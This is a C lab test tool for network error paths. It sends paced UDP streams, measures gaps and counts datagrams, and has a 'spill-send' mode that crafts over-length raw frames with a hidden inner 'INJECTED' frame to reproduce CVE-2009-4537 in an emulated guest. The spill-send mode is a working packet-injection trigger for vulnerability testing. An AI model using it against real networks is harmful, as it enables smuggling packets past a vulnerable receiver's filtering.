/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * fault-tool - traffic helpers of the error-path episodes (docs/HISTORY.md §5-§7, lab cases
 * syserr.sh, rx-spill.sh, tx-timeout.sh). A program of its own, so that lab-tool, which the
 * timing-sensitive episodes use, stays byte-identical. Every time is CLOCK_MONOTONIC in the
 * guest (virtual time under -icount); every mode is bounded in virtual time.
 *
 *   fault-tool udp-pace HOST PORT COUNT INTERVAL_US
 *        COUNT 64-byte UDP datagrams numbered 0..COUNT-1, one every INTERVAL_US (absolute
 *        schedule: a late sender catches up without bursts above one per call); a datagram
 *        the stack refuses (ENOBUFS, IP_RECVERR) is counted in refused= and not sent again.
 *   fault-tool udp-gap PORT COUNT MAX_MS
 *        receive them for at most MAX_MS (from the first datagram) or until COUNT arrived;
 *        reports received=, lost=, the longest silence between two arrivals (max_gap_us=,
 *        gap_at_ms= when it began, after_seq= the last number before it, after_gap= the
 *        arrivals from its end on), tail_ms= from the last arrival to the end, last_seq=.
 *   fault-tool udp-count PORT MAX_MS
 *        count datagrams (any content) and bytes for MAX_MS; reports count=, bytes=, max_len=.
 *   fault-tool spill-send IFNAME DSTMAC COUNT SIZE INNER_OFF
 *        AF_PACKET: COUNT over-length frames of SIZE bytes (before the FCS) to DSTMAC, an
 *        IPv4/UDP datagram 10.9.0.2 -> 10.9.0.1 port 7001 whose payload carries, at frame
 *        offset INNER_OFF, a complete second frame: IPv4/UDP to port 7002 (payload "RTLQ",
 *        seq, "INJECTED"). A receiver that takes each descriptor of a spilled frame for a
 *        frame of its own delivers that inner datagram (CVE-2009-4537: frames "containing"
 *        crafted content).
 * Output: one line "RESULT tool=<mode> key=value ..." on stdout.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include "lab-util.h" /* now_ns, die, g_alarm/arm_alarm, UDP_MAGIC */

static void put32(uint8_t *p, uint32_t v) {
  p[0] = (uint8_t)(v >> 24), p[1] = (uint8_t)(v >> 16), p[2] = (uint8_t)(v >> 8), p[3] = (uint8_t)v;
}
static uint32_t get32(const uint8_t *p) {
  return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}
static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8), p[1] = (uint8_t)v; }

static uint64_t num(const char *s) {
  char *end;
  unsigned long long v = strtoull(s, &end, 10);
  if (*end) {
    fprintf(stderr, "fault-tool: '%s' is not a number\n", s);
    exit(2);
  }
  return v;
}

static int udp_bound(const char *tool, int port) {
  struct sockaddr_in a;
  struct timeval tv = {0, 200000};
  int rb = 4 << 20, fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) die(tool, "socket");
  memset(&a, 0, sizeof(a));
  a.sin_family = AF_INET;
  a.sin_port = htons((uint16_t)port);
  if (setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &rb, sizeof(rb)) != 0)
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rb, sizeof(rb));
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  if (bind(fd, (struct sockaddr *)&a, sizeof(a)) != 0) die(tool, "bind");
  const char *ready = getenv("LAB_READY");
  LAB_WRITE_READY(tool, ready, port);
  return fd;
}

/* ---- paced stream and its gaps ----------------------------------------------------------- */

static int udp_pace(const char *host, int port, uint64_t count, uint64_t interval_us) {
  uint8_t buf[64];
  struct sockaddr_in a;
  uint64_t seq, refused = 0, t0, next;
  int one = 1, fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) die("udp-pace", "socket");
  if (!interval_us) die("udp-pace", "interval");
  memset(&a, 0, sizeof(a));
  a.sin_family = AF_INET;
  a.sin_port = htons((uint16_t)port);
  if (inet_pton(AF_INET, host, &a.sin_addr) != 1) die("udp-pace", "address");
  setsockopt(fd, IPPROTO_IP, IP_RECVERR, &one, sizeof(one));
  memset(buf, 0x3c, sizeof(buf));
  t0 = now_ns();
  for (seq = 0; seq < count; seq++) {
    next = t0 + seq * interval_us * 1000u;
    for (uint64_t t = now_ns(); t < next; t = now_ns()) {
      struct timespec ts = {(time_t)((next - t) / 1000000000u), (long)((next - t) % 1000000000u)};
      nanosleep(&ts, NULL);
    }
    put32(buf, UDP_MAGIC);
    put32(buf + 4, (uint32_t)seq);
    if (sendto(fd, buf, sizeof(buf), 0, (struct sockaddr *)&a, sizeof(a)) != (ssize_t)sizeof(buf)) {
      if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) die("udp-pace", "sendto");
      refused++;
    }
  }
  close(fd);
  printf("RESULT tool=udp-pace status=ok count=%llu interval_us=%llu refused=%llu ns=%llu\n",
         (unsigned long long)count, (unsigned long long)interval_us, (unsigned long long)refused,
         (unsigned long long)(now_ns() - t0));
  return 0;
}

static int udp_gap(int port, uint64_t count, uint64_t max_ms) {
  uint8_t buf[2048];
  uint8_t *seen = calloc(count ? count : 1, 1);
  uint64_t got = 0, unique = 0, t0 = 0, last = 0, max_gap = 0, gap_at = 0, gap_got = 0, tail;
  int64_t last_seq = -1, after_seq = -1;
  int fd = udp_bound("udp-gap", port), armed = 0;
  if (!seen) die("udp-gap", "memory");
  while (unique < count && !g_alarm) {
    ssize_t r = recv(fd, buf, sizeof(buf), 0);
    if (r < 0 && (errno == EINTR || errno == EAGAIN || errno == EWOULDBLOCK)) continue;
    if (r < 0) die("udp-gap", "recv");
    uint64_t t = now_ns();
    if (r < 8 || get32(buf) != UDP_MAGIC || get32(buf + 4) >= count) continue;
    uint32_t seq = get32(buf + 4);
    if (!armed) { /* the bound runs from the first datagram */
      arm_alarm(max_ms);
      armed = 1;
      t0 = last = t;
    }
    got++;
    if (t - last > max_gap) {
      max_gap = t - last;
      gap_at = last - t0;
      after_seq = last_seq;
      gap_got = got; /* arrivals before the one that ends the gap */
    }
    last = t;
    last_seq = seq;
    if (!seen[seq]) seen[seq] = 1, unique++;
  }
  tail = now_ns() - last;
  arm_alarm(0);
  close(fd);
  printf("RESULT tool=udp-gap status=%s expected=%llu received=%llu unique=%llu lost=%llu "
         "max_gap_us=%llu gap_at_ms=%llu after_seq=%lld after_gap=%llu tail_ms=%llu "
         "last_seq=%lld span_ms=%llu\n",
         unique == count ? "ok" : "time", (unsigned long long)count, (unsigned long long)got,
         (unsigned long long)unique, (unsigned long long)(count - unique),
         (unsigned long long)(max_gap / 1000), (unsigned long long)(gap_at / 1000000),
         (long long)after_seq, (unsigned long long)(got - gap_got),
         (unsigned long long)(tail / 1000000), (long long)last_seq, (unsigned long long)((last - t0) / 1000000));
  free(seen);
  return 0;
}

static int udp_count(int port, uint64_t max_ms) {
  static uint8_t buf[65536];
  uint64_t n = 0, bytes = 0, max_len = 0, injected = 0;
  int fd = udp_bound("udp-count", port);
  arm_alarm(max_ms);
  while (!g_alarm) {
    ssize_t r = recv(fd, buf, sizeof(buf), 0);
    if (r < 0 && (errno == EINTR || errno == EAGAIN || errno == EWOULDBLOCK)) continue;
    if (r < 0) die("udp-count", "recv");
    n++;
    bytes += (uint64_t)r;
    if ((uint64_t)r > max_len) max_len = (uint64_t)r;
    if (r >= 16 && !memcmp(buf + 8, "INJECTED", 8)) injected++;
  }
  close(fd);
  printf("RESULT tool=udp-count status=ok port=%d count=%llu bytes=%llu max_len=%llu "
         "injected=%llu\n", port, (unsigned long long)n, (unsigned long long)bytes,
         (unsigned long long)max_len, (unsigned long long)injected);
  return 0;
}

/* ---- the over-length frame with a frame inside ------------------------------------------- */

static uint16_t ip_csum(const uint8_t *p, size_t n) {
  uint32_t s = 0;
  for (size_t i = 0; i + 1 < n; i += 2) s += (uint32_t)p[i] << 8 | p[i + 1];
  while (s >> 16) s = (s & 0xffff) + (s >> 16);
  return (uint16_t)~s;
}

/* Ethernet + IPv4 (10.9.0.2 -> 10.9.0.1, id) + UDP (port, checksum 0) headers at p, for an IP
   datagram of ip_len bytes. Returns the header length (42). */
static size_t headers(uint8_t *p, const uint8_t *dst, const uint8_t *src, size_t ip_len,
                      uint16_t id, uint16_t port) {
  memcpy(p, dst, 6);
  memcpy(p + 6, src, 6);
  put16(p + 12, ETHERTYPE_IP);
  uint8_t *ip = p + 14;
  memset(ip, 0, 20);
  ip[0] = 0x45;
  put16(ip + 2, (uint16_t)ip_len);
  put16(ip + 4, id);
  ip[8] = 64;
  ip[9] = IPPROTO_UDP;
  ip[12] = 10, ip[13] = 9, ip[14] = 0, ip[15] = 2;
  ip[16] = 10, ip[17] = 9, ip[18] = 0, ip[19] = 1;
  put16(ip + 10, ip_csum(ip, 20));
  uint8_t *udp = ip + 20;
  put16(udp, 40000);
  put16(udp + 2, port);
  put16(udp + 4, (uint16_t)(ip_len - 20));
  put16(udp + 6, 0); /* no checksum (IPv4 allows it) */
  return 42;
}

static int parse_mac(const char *s, uint8_t *m) {
  unsigned v[6];
  if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) return -1;
  for (int i = 0; i < 6; i++) m[i] = (uint8_t)v[i];
  return 0;
}

static int spill_send(const char *ifname, const char *dstmac, uint64_t count, uint64_t size,
                      uint64_t inner_off) {
  static uint8_t f[16384];
  uint8_t dst[6], src[6];
  struct ifreq ifr;
  struct sockaddr_ll sll;
  uint64_t i, sent = 0;
  const size_t inner_len = 42 + 16;
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (fd < 0) die("spill-send", "socket");
  if (parse_mac(dstmac, dst)) die("spill-send", "mac");
  if (size < 64 || size > sizeof(f) || inner_off < 42 + 8 || inner_off + inner_len > size)
    die("spill-send", "size");
  memset(&ifr, 0, sizeof(ifr));
  snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
  if (ioctl(fd, SIOCGIFHWADDR, &ifr) != 0) die("spill-send", "SIOCGIFHWADDR");
  memcpy(src, ifr.ifr_hwaddr.sa_data, 6);
  if (ioctl(fd, SIOCGIFINDEX, &ifr) != 0) die("spill-send", "SIOCGIFINDEX");
  memset(&sll, 0, sizeof(sll));
  sll.sll_family = AF_PACKET;
  sll.sll_ifindex = ifr.ifr_ifindex;
  sll.sll_halen = 6;
  memcpy(sll.sll_addr, dst, 6);
  for (i = 0; i < count; i++) {
    memset(f, 0x5a, size);
    size_t h = headers(f, dst, src, size - 14, (uint16_t)(1000 + i), 7001);
    put32(f + h, UDP_MAGIC);
    put32(f + h + 4, (uint32_t)i);
    uint8_t *in = f + inner_off;
    h = headers(in, dst, src, inner_len - 14, (uint16_t)(2000 + i), 7002);
    put32(in + h, UDP_MAGIC);
    put32(in + h + 4, (uint32_t)i);
    memcpy(in + h + 8, "INJECTED", 8);
    if (sendto(fd, f, size, 0, (struct sockaddr *)&sll, sizeof(sll)) == (ssize_t)size) sent++;
    usleep(20000);
  }
  close(fd);
  printf("RESULT tool=spill-send status=%s sent=%llu size=%llu inner_off=%llu\n",
         sent == count ? "ok" : "partial", (unsigned long long)sent, (unsigned long long)size,
         (unsigned long long)inner_off);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 6 && !strcmp(argv[1], "udp-pace"))
    return udp_pace(argv[2], (int)num(argv[3]), num(argv[4]), num(argv[5]));
  if (argc == 5 && !strcmp(argv[1], "udp-gap"))
    return udp_gap((int)num(argv[2]), num(argv[3]), num(argv[4]));
  if (argc == 4 && !strcmp(argv[1], "udp-count")) return udp_count((int)num(argv[2]), num(argv[3]));
  if (argc == 7 && !strcmp(argv[1], "spill-send"))
    return spill_send(argv[2], argv[3], num(argv[4]), num(argv[5]), num(argv[6]));
  fprintf(stderr, "usage: fault-tool udp-pace HOST PORT COUNT INTERVAL_US | udp-gap PORT COUNT MAX_MS |\n"
                  "       udp-count PORT MAX_MS | spill-send IFNAME DSTMAC COUNT SIZE INNER_OFF\n");
  return 2;
}
